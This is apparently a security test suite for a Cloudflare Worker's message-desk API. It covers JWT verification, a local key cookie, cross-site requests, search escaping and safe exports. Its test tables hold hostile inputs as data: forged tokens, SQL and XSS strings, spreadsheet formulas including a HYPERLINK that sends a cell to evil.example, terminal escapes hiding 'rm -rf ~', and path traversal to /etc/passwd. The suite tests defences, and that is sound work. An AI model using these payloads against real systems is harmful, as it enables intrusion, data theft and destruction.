import { env as bindings } from 'cloudflare:workers';
import { SignJWT, UnsecuredJWT } from 'jose';
import { beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import type { Env } from '../../worker/env.ts';
import {
  accessAudience,
  certificatesResponse,
  createSigner,
  createTeam,
  ownerEmail,
} from './support/access.ts';
import { faultyDatabase } from './support/faulty.ts';
import {
  advanceTime,
  createHarness,
  insertRows,
  readRows,
  siteUrl,
  updateRows,
} from './support/harness.ts';
import { contactFields, jsonPost, readReference, sendApplication } from './support/posts.ts';

const local = 'http://localhost:8787';
const key = 'a-random-key-of-this-start';
const localSettings: Partial<Env> = { DESK_KEY: key };
const localHeaders = { 'CF-Connecting-IP': '127.0.0.1' };
const localKeyHeaders = { ...localHeaders, Cookie: `desk-key=${key}` };
const remoteKeyHeaders = { ...localKeyHeaders, 'CF-Connecting-IP': '203.0.113.9' };

let signer: Awaited<ReturnType<typeof createSigner>>;
let otherSigner: typeof signer;
let access: ReturnType<typeof createTeam>;
let deployed: Partial<Env>;
let fetchCount = 0;

/** Signs a valid token, except for the given claims. */
function token(claims: Record<string, unknown> = {}, by = signer): Promise<string> {
  return by.sign({ iss: access.issuer, ...claims });
}

function publish(answer: () => Response | Promise<Response>): void {
  vi.stubGlobal('fetch', async (input: RequestInfo | URL) => {
    expect(new Request(input).url).toBe(access.certificates);
    fetchCount += 1;
    return answer();
  });
}

beforeAll(async () => {
  [signer, otherSigner] = await Promise.all([createSigner(), createSigner()]);
});

beforeEach(() => {
  access = createTeam();
  deployed = { ACCESS_TEAM: access.team, ACCESS_AUD: accessAudience };
  fetchCount = 0;
  publish(() => certificatesResponse(signer));
});

interface DeskRequest {
  token?: string | undefined;
  headers?: Record<string, string>;
  settings?: Partial<Env>;
  at?: string;
  path?: string;
  body?: unknown;
}

function request({ token, headers, settings = deployed, at = siteUrl, path, body }: DeskRequest) {
  const signed = token === undefined ? {} : { 'Cf-Access-Jwt-Assertion': token };
  const posted = typeof body === 'string' ? body : JSON.stringify(body);
  return createHarness(settings).fetch(
    new Request(`${at}${path ?? '/api/v1/desk/overview'}`, {
      redirect: 'manual',
      headers: { ...signed, ...headers },
      ...(body === undefined ? {} : { method: 'POST', body: posted }),
    }),
  );
}

async function requestSignedIn(options: DeskRequest = {}): Promise<Response> {
  return request({ token: await token(), ...options });
}

async function statusWith(signed: Promise<string>): Promise<number> {
  return (await request({ token: await signed })).status;
}

/** Posts as the desk does: signed in, with its Origin, as JSON. */
function change(body: unknown, headers: Record<string, string> = {}): Promise<Response> {
  const usual = { Origin: siteUrl, 'Content-Type': 'application/json' };
  return requestSignedIn({ path: '/api/v1/desk/changes', headers: { ...usual, ...headers }, body });
}

async function read<Answer>(path: string): Promise<Answer> {
  const answer = await requestSignedIn({ path: `/api/v1/desk${path}` });
  expect(answer.status).toBe(200);
  return answer.json<Answer>();
}

async function storeMessage(fields: Record<string, string> = {}): Promise<string> {
  return readReference(await createHarness().fetch(jsonPost({ ...contactFields, ...fields })));
}

test('opens for a user of Cloudflare Access, and fetches the certificates once', async () => {
  for (let call = 0; call < 3; call += 1) {
    const answer = await requestSignedIn();
    expect(answer.status).toBe(200);
    expect(await answer.json()).toMatchObject({ actor: ownerEmail });
  }
  expect(fetchCount).toBe(1);
});

const seconds = () => Math.floor(Date.now() / 1_000);

/** Adds valid claims to a token that is signed differently. */
function withClaims<Token extends SignJWT | UnsecuredJWT>(jwt: Token): Token {
  jwt.setIssuer(access.issuer).setAudience(accessAudience).setIssuedAt().setExpirationTime('1h');
  return jwt;
}

function signedBySecret(secret: string): Promise<string> {
  const header = { alg: 'HS256', kid: signer.kid };
  const jwt = withClaims(new SignJWT({ email: ownerEmail })).setProtectedHeader(header);
  return jwt.sign(new TextEncoder().encode(secret));
}

async function changedAfterSigning(): Promise<string> {
  const [head, , end] = (await token()).split('.');
  const [, words] = (await token({ email: 'thief@example.com' }, otherSigner)).split('.');
  return `${head}.${words}.${end}`;
}

const otherIssuer = { iss: 'https://evil.example/.cloudflareaccess.com' };
const otherHostSettings = { ACCESS_TEAM: 'evil.example/', ACCESS_AUD: accessAudience };

describe('a token', () => {
  // biome-ignore format: a row a line
  test.each<[attack: string, options: () => Promise<DeskRequest>, status?: number]>([
    ['that is missing', async () => ({})],
    ['that is empty', async () => ({ token: '' })],
    ['that is malformed', async () => ({ token: 'a.b.c' })],
    ['without a signature (alg: none)', async () => ({ token: withClaims(new UnsecuredJWT({ email: ownerEmail })).encode() })],
    ['signed by HS256 with the public key as the secret', async () => ({ token: await signedBySecret(signer.pem) })],
    ['of another team', async () => ({ token: await token({ iss: 'https://evil.cloudflareaccess.com' }) })],
    ['for another application', async () => ({ token: await token({ aud: ['shop'] }) })],
    ['signed by another key', async () => ({ token: await token({}, otherSigner) })],
    ['changed after signing', async () => ({ token: await changedAfterSigning() })],
    ['that has expired', async () => ({ token: await token({ exp: seconds() - 1 }) })],
    ['that never expires', async () => ({ token: await token({ exp: undefined }) })],
    ['that is not yet valid', async () => ({ token: await token({ nbf: seconds() + 3_600 }) })],
    ['of a service without an email address', async () => ({ token: await token({ email: undefined }) })],
    ['with an empty email address', async () => ({ token: await token({ email: '' }) })],
    ['in a cookie only', async () => ({ headers: { Cookie: `CF_Authorization=${await token()}` } })],
    ['in the Authorization header only', async () => ({ headers: { Authorization: `Bearer ${await token()}` } })],
    ['where no team is set', async () => ({ token: await token(), settings: { ACCESS_AUD: accessAudience } }), 404],
    ['where no audience is set', async () => ({ token: await token(), settings: { ACCESS_TEAM: access.team } }), 404],
    ['whose team setting contains another host', async () => ({ token: await token(otherIssuer), settings: otherHostSettings }), 404],
  ])('%s is refused', async (_attack, options, status = 401) => {
    const answer = await request(await options());
    expect(answer.status).toBe(status);
    expect(answer.headers.get('Cache-Control')).toBe('no-store');
    expect(answer.headers.get('Set-Cookie')).toBeNull();
    expect(Object.keys(await answer.json<object>())).toEqual(['message']);
  });

  test('signed by a withdrawn key is refused, and by its successor accepted', async () => {
    expect(await statusWith(token())).toBe(200);
    publish(() => certificatesResponse(otherSigner));
    // The keys are refetched at most twice a minute.
    advanceTime(31_000);
    expect(await statusWith(token({}, otherSigner))).toBe(200);
    expect(await statusWith(token())).toBe(401);
  });

  test.each<[trouble: string, answer: () => Response | Promise<Response>]>([
    ['cannot be reached', () => Promise.reject(new TypeError('Network connection lost.'))],
    [
      'cannot be read because of a server error',
      () => Response.json({ keys: [signer.jwk] }, { status: 500 }),
    ],
    ['are malformed', () => Response.json({ keys: 'none' })],
    ['are HTML', () => new Response('<h1>Hello</h1>')],
  ])(
    'is refused while the certificates %s, with one fetch per 30 seconds',
    async (_why, answer) => {
      publish(answer);
      const refused = await requestSignedIn();
      expect([refused.status, refused.headers.get('Retry-After')]).toEqual([503, '60']);
      expect((await requestSignedIn({ path: '/desk' })).status).toBe(503);
      advanceTime(29_000);
      expect(await statusWith(token())).toBe(503);
      expect(fetchCount).toBe(1);
      advanceTime(2_000);
      const atOnce = await Promise.all([1, 2, 3].map(() => statusWith(token())));
      expect([atOnce, fetchCount]).toEqual([[503, 503, 503], 2]);
      advanceTime(31_000);
      publish(() => certificatesResponse(signer));
      expect(await statusWith(token())).toBe(200);
    },
  );

  test('with an unknown key locks nobody else out while certificates cannot be fetched', async () => {
    expect(await statusWith(token())).toBe(200);
    publish(() => new Response('busy', { status: 500 }));
    advanceTime(31_000);
    expect(await statusWith(token({}, otherSigner))).toBe(503);
    expect(await statusWith(token())).toBe(200);
  });
});

const withTeam = { ACCESS_TEAM: 'a-team', ACCESS_AUD: accessAudience, ...localSettings };
const empty = { ...localHeaders, Cookie: 'desk-key=' };

describe('the local key', () => {
  test('opens the desk on this machine, as an HttpOnly and SameSite=Strict cookie', async () => {
    const here = { settings: localSettings, at: local };
    const answer = await request({ ...here, path: `/desk?key=${key}`, headers: localHeaders });
    expect([answer.status, answer.headers.get('Location')]).toEqual([303, '/desk']);
    const cookie = `desk-key=${key}; Path=/; HttpOnly; SameSite=Strict`;
    expect(answer.headers.get('Set-Cookie')).toBe(cookie);
    expect(answer.headers.get('Referrer-Policy')).toBe('no-referrer');
    const read = await request({ ...here, headers: localKeyHeaders });
    expect(await read.json()).toMatchObject({ actor: 'this computer' });
  });

  // biome-ignore format: a row a line
  test.each<[attack: string, status: number, options: DeskRequest]>([
    ['that is wrong', 401, { headers: { ...localHeaders, Cookie: 'desk-key=guessed' } }],
    ['that is empty', 401, { headers: empty }],
    ['in the address of an API', 401, { headers: localHeaders, path: `/api/v1/desk/overview?key=${key}` }],
    ['that leaked in a referrer', 401, { headers: { ...localHeaders, Referer: `${local}/desk?key=${key}` } }],
    ['on another host', 404, { headers: localKeyHeaders, at: siteUrl }],
    ['on a host that starts with localhost', 404, { headers: localKeyHeaders, at: 'http://localhost.evil.example' }],
    ['on a host of the local network', 404, { headers: localKeyHeaders, at: 'http://192.168.1.5:8787' }],
    ['from another machine', 404, { headers: remoteKeyHeaders }],
    ['without a client address', 404, { headers: { Cookie: `desk-key=${key}` } }],
    ['in a page’s address on another host', 404, { headers: remoteKeyHeaders, at: siteUrl, path: `/desk?key=${key}` }],
    ['that is not set', 404, { headers: empty, settings: { DESK_KEY: '' } }],
    ['set on a deployed Worker', 401, { headers: remoteKeyHeaders, at: siteUrl, settings: withTeam }],
    ['set on a deployed Worker, with a forged host', 401, { headers: remoteKeyHeaders, settings: withTeam }],
    ['set on a deployed Worker without Access', 404, { headers: remoteKeyHeaders, at: siteUrl }],
  ])('%s is refused', async (_attack, status, options) => {
    const answer = await request({ settings: localSettings, at: local, ...options });
    expect([answer.status, answer.headers.get('Set-Cookie')]).toEqual([status, null]);
  });
});

test.each([
  ['/api/v1/desk/overview', '/api/v1/nothing'],
  ['/desk', '/nothing'],
  ['/desk/app.js', '/nothing'],
])('answers %s like %s where no desk is set up', async (path, unknown) => {
  const [desk, nothing] = [
    await request({ settings: {}, path }),
    await createHarness().get(unknown),
  ];
  expect([desk.status, await desk.text()]).toEqual([404, await nothing.text()]);
});

const unknownReference = 'TT-AAAA-AAAA';

describe('a change', () => {
  test.each<[attack: string, status: number, headers: Record<string, string>]>([
    ['from another site', 403, { Origin: 'https://evil.example' }],
    ['from a sandboxed frame', 403, { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }],
    ['from a subdomain', 403, { Origin: 'https://evil.tern-and-tide.test' }],
    ['as a form', 415, { 'Content-Type': 'application/x-www-form-urlencoded' }],
    ['as plain text, avoiding a preflight', 415, { 'Content-Type': 'text/plain' }],
    ['as JSONP', 415, { 'Content-Type': 'application/jsonp' }],
  ])('%s is refused', async (_attack, status, headers) => {
    const references = [await storeMessage()];
    expect((await change({ do: 'remove', references }, headers)).status).toBe(status);
    expect(await readRows()).toHaveLength(1);
  });

  test('without an Origin is refused', async () => {
    const headers = { 'Content-Type': 'application/json' };
    const options = { path: '/api/v1/desk/changes', headers, body: { do: 'resend-failed' } };
    expect((await requestSignedIn(options)).status).toBe(403);
  });

  // biome-ignore format: a row a line
  test.each<[attack: string, status: number, body: unknown]>([
    ['of unknown kind', 422, { do: 'drop' }],
    ['named constructor', 422, { do: 'constructor', references: [] }],
    ['of an invalid reference', 422, { do: 'remove', references: ["' OR 1=1 --"] }],
    ['of everything', 422, { do: 'remove', references: '*' }],
    ['of no message', 422, { do: 'remove', references: [] }],
    ['of too many messages', 422, { do: 'read', references: Array(501).fill(unknownReference) }],
    ['with a pattern as address', 200, { do: 'erase', email: '%', typed: '%' }],
    ['that undoes a change nobody made', 200, { do: 'undo', what: 'answer', references: [unknownReference], at: 1 }],
    ['that undoes marking as read', 422, { do: 'undo', what: 'read', references: [unknownReference], at: 1 }],
    ['that restores an unknown note', 404, { do: 'restore-note', reference: unknownReference, id: 1 }],
    ['that is not confirmed', 422, { do: 'erase', email: 'ravi@example.com', typed: 'yes' }],
    ['of an empty address', 422, { do: 'erase', email: '', typed: '' }],
    ['with a note on an unknown message', 404, { do: 'note', reference: unknownReference, text: 'Hi' }],
    ['with too long a note', 422, { do: 'note', reference: unknownReference, text: 'x'.repeat(5_001) }],
    ['with too large a body', 413, `{"do":"note","text":"${'x'.repeat(110_000)}"}`],
    ['that is not JSON', 400, '{'],
  ])('%s changes nothing', async (_attack, status, body) => {
    await storeMessage();
    const before = await readRows();
    expect((await change(body)).status).toBe(status);
    expect(await readRows()).toEqual(before);
  });

  test('removes a note only with its own message, and no other event', async () => {
    const [mine, others] = [await storeMessage(), await storeMessage({ message: 'Another' })];
    const noted = await change({ do: 'note', reference: mine, text: 'Hi' });
    const { id } = await noted.json<{ id: number }>();
    await change({ do: 'answer', references: [mine] });
    const kept = await read<{ history: { id: number; what: string }[] }>(`/messages/${mine}`);
    const answered = kept.history.find(({ what }) => what === 'answered')?.id;
    const status = async (act: string, reference: string, note = id) =>
      (await change({ do: act, reference, id: note })).status;
    expect(await status('remove-note', mine, answered)).toBe(404);
    for (const act of ['remove-note', 'restore-note', 'remove-note']) {
      expect(await status(act, others)).toBe(404);
      const answer = await change({ do: act, reference: mine, id });
      expect(await answer.json()).toEqual({ changed: [mine] });
      expect(await status(act, mine)).toBe(404);
    }
  });
});

const invalidReferences = [
  unknownReference,
  "TT-' OR 1=1",
  `../${unknownReference}`,
  '%2e%2e',
  'x'.repeat(3_000),
];
test.each(invalidReferences)('answers 404 for the reference %s', async (name) => {
  await storeMessage();
  const path = `/api/v1/desk/messages/${encodeURIComponent(name)}`;
  const answers = [
    await requestSignedIn({ path }),
    await requestSignedIn({ path: `${path}/file` }),
  ];
  expect(answers.map(({ status }) => status)).toEqual([404, 404]);
});

test.each(
  [
    ["' OR 1=1 --", '"; DROP TABLE inquiries; --', '"', 'as"ha', '""', '*', 'NEAR(a b, 5)'],
    ['ravi OR asha', 'words : ravi', '{words} : ravi', '^ravi NOT asha', 'ravi" OR "asha'],
    ['-asha', '\0ravi', '%_%', '🙂'.repeat(500), 'asha '.repeat(3_000)],
  ].flat(),
)('searches %j as words, not as query syntax', async (words) => {
  await storeMessage({ name: 'Asha' });
  await storeMessage({ name: 'Meera', email: 'meera@example.com', message: 'Good morning' });
  const path = `/messages?words=${encodeURIComponent(words)}`;
  const { messages } = await read<{ messages: { fields: { name: string } }[] }>(path);
  expect(messages.map(({ fields }) => fields.name)).not.toContain('Meera');
  expect(await readRows()).toHaveLength(2);
});

const invalidFilters = 'state=all state=held%27 form=letter before=-1 before=1e3 before=x'.split(
  ' ',
);
test.each(invalidFilters)('refuses the filter %s', async (query) => {
  const path = `/api/v1/desk/messages?${query}`;
  expect((await requestSignedIn({ path })).status).toBe(422);
});

test('returns markup in any field as JSON text', async () => {
  const markup = '<img src=x onerror=alert(1)>"><script>alert(1)</script>';
  const reference = await storeMessage({ name: markup, message: markup });
  const answer = await requestSignedIn({ path: `/api/v1/desk/messages/${reference}` });
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    'content-type': 'application/json',
    'x-content-type-options': 'nosniff',
    'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    'cross-origin-resource-policy': 'same-origin',
  });
  expect(await answer.json()).toMatchObject({ message: { fields: { name: markup } } });
});

test('shows a message with the latest twenty others of the same person', async () => {
  const references: string[] = [];
  for (let number = 0; number < 23; number += 1) {
    references.unshift(await storeMessage({ message: String(number) }));
  }
  await storeMessage({ email: 'another@example.com' });
  const [first, ...others] = references;
  const { earlier } = await read<{ earlier: { reference: string }[] }>(`/messages/${first}`);
  expect(earlier.map(({ reference }) => reference)).toEqual(others.slice(0, 20));
});

test('lists fifty messages per page with the position of the next', async () => {
  await insertRows(101, {});
  const lengths: number[] = [];
  for (let query = ''; query !== '?before=null'; ) {
    const page = await read<{ messages: object[]; next: number | null }>(`/messages${query}`);
    lengths.push(page.messages.length);
    query = `?before=${page.next}`;
  }
  expect(lengths).toEqual([50, 50, 1]);
});

test('finds a person regardless of the address’s case', async () => {
  await storeMessage({ email: 'Asha@Example.com' });
  expect(await read('/person?email=aSHA%40example.COM')).toMatchObject({ messages: 1 });
  expect(await read('/messages?email=ASHA%40EXAMPLE.COM')).toMatchObject({ messages: [{}] });
  const unknownReference = await requestSignedIn({ path: '/api/v1/desk/person' });
  expect(unknownReference.status).toBe(422);
});

test('lets only the owner’s browser cache the desk’s files, and nothing cache the rest', async () => {
  const reference = await storeMessage();
  const settings = { ...deployed, ASSETS: { fetch: async () => new Response('built') } };
  // biome-ignore format: addresses side by side
  const data = [
    'overview', 'messages', `messages/${reference}`, `messages/${reference}/file`, 'numbers',
    'person?email=ravi@example.com', 'export/csv', 'export/json',
  ];
  const paths = ['/desk', '/desk/manifest.webmanifest', ...data.map((at) => `/api/v1/desk/${at}`)];
  for (const path of paths) {
    const { headers } = await requestSignedIn({ path, settings });
    expect([path, headers.get('Cache-Control')]).toEqual([path, 'no-store']);
  }
  const changed = await change({ do: 'read', references: [reference] });
  expect(changed.headers.get('Cache-Control')).toBe('no-store');
  const file = await requestSignedIn({ path: '/desk/app-ABCDEFGH.js', settings });
  expect(file.headers.get('Cache-Control')).toBe('private, max-age=31536000, immutable');
});

test.each([
  ['', []],
  [`whsec_${btoa('A key of at least 24 bytes.')}`, []],
  ['whsec_', ['webhook-secret']],
  ['A word of the owner’s', ['webhook-secret']],
])('reports in Health whether MESSAGE_WEBHOOK_SECRET is a key: "%s"', async (secret, troubles) => {
  const settings = { ...deployed, MESSAGE_WEBHOOK_SECRET: secret };
  const overview = await (await requestSignedIn({ settings })).json();
  expect(overview).toMatchObject({ troubles, actor: ownerEmail, open: 0 });
});

test('breaks off a failed export instead of ending it', async () => {
  await insertRows(501, {});
  let pages = 0;
  const secondPage = (sql: string) => sql.includes('AS position') && ++pages > 1;
  const settings = { ...deployed, DB: faultyDatabase(bindings.DB, secondPage) };
  const answer = await requestSignedIn({ path: '/api/v1/desk/export/csv', settings });
  expect(answer.status).toBe(200);
  await expect(answer.text()).rejects.toThrow('Network connection lost');
});

test('exports filtered messages without formulas', async () => {
  await storeMessage({ name: '=HYPERLINK("https://evil.example")', message: '@SUM(A1)' });
  await storeMessage({ name: 'Asha', message: '+1' });
  const table = await (await requestSignedIn({ path: '/api/v1/desk/export/csv' })).text();
  expect(table.match(/"[=@+-]/g)).toBeNull();
  expect(table).toContain(`"'=HYPERLINK(""https://evil.example"")"`);
  const filtered = await requestSignedIn({ path: '/api/v1/desk/export/json?words=asha' });
  const name = /^attachment; filename\*=UTF-8''inquiries-\d{4}-\d\d-\d\d\.json$/;
  expect(filtered.headers.get('Content-Disposition')).toMatch(name);
  expect(await filtered.json()).toMatchObject([{ fields: { name: 'Asha' } }]);
});

/** Stores a held message with the same text in every column, bypassing the Worker's cleaning. */
async function storeHostileMessage(text: string): Promise<void> {
  await storeMessage({ website: 'spam' });
  await updateRows(
    `email = ?1, page = ?1, service = ?1, held_reason = ?1, last_error = ?1, file_name = ?1,
     fields = json_object('name', ?1, 'email', ?1, 'phoneNumber', ?1, 'message', ?1)`,
    text,
  );
}

const formulas = [
  ['=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1'],
  ['=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b'],
].flat();

test.each(formulas)('exports %j as the text of one spreadsheet cell', async (text) => {
  await storeHostileMessage(text);
  const table = await (await requestSignedIn({ path: '/api/v1/desk/export/csv' })).text();
  const cells = (of = '') =>
    [...of.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
  const all = cells(table);
  expect(all).toHaveLength(2 * cells(table.split('\r\n')[0]).length);
  expect(all.filter((cell) => cell.endsWith(text))).toHaveLength(9);
  for (const cell of all) {
    expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u);
  }
});

/** Terminal and bidirectional control sequences. */
const commands = [
  ['\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
  ['\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\'],
  ['\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid'],
  ['invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x'],
].flat();

test.each([...commands, ...formulas])(
  'exports %j as JSON without control characters',
  async (text) => {
    await storeHostileMessage(text);
    const json = await (await requestSignedIn({ path: '/api/v1/desk/export/json' })).text();
    expect(JSON.parse(json)).toMatchObject([{ fields: { name: text }, file_name: text }]);
    expect(json).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\u2028\u2029]/u);
  },
);

test.each([
  ['../../etc/passwd\0.pdf', 'passwd.pdf'],
  ['..\\..\\run.bat', 'run.pdf'],
  ['C:/x\u001b[2J|y.exe', 'x_2J_y.pdf'],
  ['\u202Efdp.exe', 'fdp.pdf'],
  ['C:\\Windows\\cv"; filename="evil.exe', 'cv_ filename_evil.pdf'],
  ['a\r\nSet-Cookie: x=1.pdf', 'a Set-Cookie_ x_1.pdf'],
  ['<script>.html', 'script.pdf'],
])('offers a CV stored as %j under a safe name', async (name, safe) => {
  const reference = await sendApplication(createHarness());
  await bindings.DB.prepare('UPDATE inquiries SET file_name = ?').bind(name).run();
  const answer = await requestSignedIn({ path: `/api/v1/desk/messages/${reference}/file` });
  const sent = `attachment; filename*=UTF-8''${encodeURIComponent(safe)}`;
  expect(answer.headers.get('Content-Disposition')).toBe(sent);
  expect(answer.headers.get('Content-Type')).toBe('application/octet-stream');
  expect(await answer.text()).toContain('%PDF');
});
